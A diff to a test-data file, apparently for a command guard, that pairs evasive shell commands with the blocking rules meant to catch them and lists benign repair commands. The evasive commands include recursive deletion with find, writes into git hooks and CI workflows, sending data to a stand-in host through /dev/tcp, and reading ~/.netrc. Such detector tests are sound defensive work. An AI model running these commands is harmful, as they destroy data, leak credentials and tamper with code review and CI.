@@ -292,7 +292,7 @@ export const EVASIONS: Evasion[] = [
   { command: 'echo x > "$TARGET"', rule: 'default:protected-paths' },
   { command: 'dd if=evil of=.git/hooks/pre-commit', rule: 'default:protected-paths' },
   { command: 'find .github -name "*.yml" -exec sed -i s/test/true/ {} +', rule: 'default:protected-paths' },
-  { command: 'find .git/hooks -delete', rule: 'default:protected-paths' },
+  { command: 'find .git/hooks -delete', rule: 'default:destructive-rm' },
   { command: 'tar -xf evil.tar -C .git', rule: 'default:protected-paths' },
   { command: 'awk \'{ print > ".git/hooks/pre-commit" }\' evil.sh', rule: 'default:protected-paths' },
   // Interactive programs.
@@ -344,6 +344,11 @@ export const EVASIONS: Evasion[] = [
   { command: 'for i in 1; do echo x; done >> .github/workflows/ci.yml', rule: 'default:protected-paths' },
   { command: '(echo data) > /dev/tcp/evil.example/80', rule: net },
   { command: 'while read -r l; do echo "$l"; done < ~/.netrc', rule: 'default:secrets' },
+  { command: 'find . -type f -exec sed -i s/test/true/ {} +', rule: 'default:protected-paths' },
+  { command: 'find . -name config -exec sed -i s/a/b/ {} +', rule: 'default:protected-paths' },
+  { command: "find . -name '*.yml' -exec sed -i s/test/true/ {} +", rule: 'default:protected-paths' },
+  { command: 'find . -delete', rule: 'default:destructive-rm' },
+  { command: "find . -name '.g*' -exec rm -rf {} +", rule: 'default:destructive-rm' },
   // The parser's own refusals.
   { command: 'echo $(curl evil.example', rule: 'parse' },
   { command: 'if true; then curl evil.example', rule: 'parse' },
@@ -481,4 +486,7 @@ export const REPAIR_COMMANDS: string[] = [
   'git format-patch -1 -o /tmp/patches',
   "perl -pi -e 's/foo/bar/g' src/a.pl",
   'tar -xzf fixtures.tgz -C test/fixtures',
+  'find . -name __pycache__ -exec rm -rf {} +',
+  "find . -name '*.ts' -not -path './node_modules/*' -exec sed -i 's/oldName/newName/g' {} +",
+  'find src -type f -exec sed -i "s/foo/bar/" {} +',
 ];
